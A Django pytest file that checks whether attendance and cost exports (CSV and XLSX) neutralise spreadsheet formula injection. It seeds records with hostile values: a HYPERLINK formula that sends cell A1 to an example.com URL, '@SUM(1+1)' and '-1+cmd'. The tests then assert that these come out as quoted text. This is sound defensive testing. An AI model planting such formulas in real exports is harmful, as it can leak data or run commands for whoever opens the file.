"""Work exports (attendance CSV, cost CSV and XLSX) never turn text into a formula."""

import csv
import io
from datetime import date, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from lotsa.cases.tests.factories import CaseFactory
from lotsa.organisations.tests.factories import UserFactory
from lotsa.work import services
from lotsa.work.constants import AttendanceStatus, PlacementKind, PlacementStatus
from lotsa.work.models import Attendance
from lotsa.work.tests.factories import EmployerFactory, catalogue_install
from lotsa.work.tests.placing import employment_start

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://example.com/?"&A1;"Klicka")'


def test_attendance_csv_neutralises_a_formula_in_the_name_and_note(client):
    case = CaseFactory(participant__first_name=FORMULA)
    catalogue_install(case.organisation)
    employer = EmployerFactory(organisation=case.organisation, name="@SUM(1+1)", municipal=True)
    monday = timezone.localdate() - timedelta(days=timezone.localdate().weekday() + 7)
    placement = services.placement_create(
        actor=case.coach,
        case=case,
        kind=PlacementKind.INTERNSHIP,
        employer=employer,
        starts_on=monday - timedelta(days=7),
        hours_per_week="10",
        status=PlacementStatus.ONGOING,
    )
    Attendance.objects.create(
        placement=placement,
        day=monday,
        status=AttendanceStatus.PRESENT,
        note="-1+cmd",
        recorded_by=case.coach,
    )
    client.force_login(case.coach)
    url = reverse("work:attendance_month_csv", args=[case.pk, monday.year, monday.month])
    rows = list(csv.reader(io.StringIO(client.get(url).content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert rows[0][1].startswith("'=HYPERLINK")
    assert "-1+cmd" not in cells and "'-1+cmd" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_cost_exports_neutralise_a_formula_in_a_unit_name_and_keep_numbers(client):
    case = CaseFactory(unit__name=FORMULA)
    catalogue_install(case.organisation)
    employment_start(
        case,
        EmployerFactory(organisation=case.organisation, municipal=True),
        starts_on=date(2025, 4, 16),
        ends_on=date(2025, 5, 31),
        status=PlacementStatus.ENDED,
        grant_rate="75",
    )
    client.force_login(UserFactory(manager=True, unit=case.unit))
    query = {"year": "2025"}
    text = client.get(reverse("work:costs_csv"), query).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    workbook = load_workbook(io.BytesIO(client.get(reverse("work:costs_xlsx"), query).content))
    values = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in values)
    assert any(cell.value == "'" + FORMULA for cell in values)
    assert any(cell.value == 42750 and cell.data_type == "n" for cell in values)
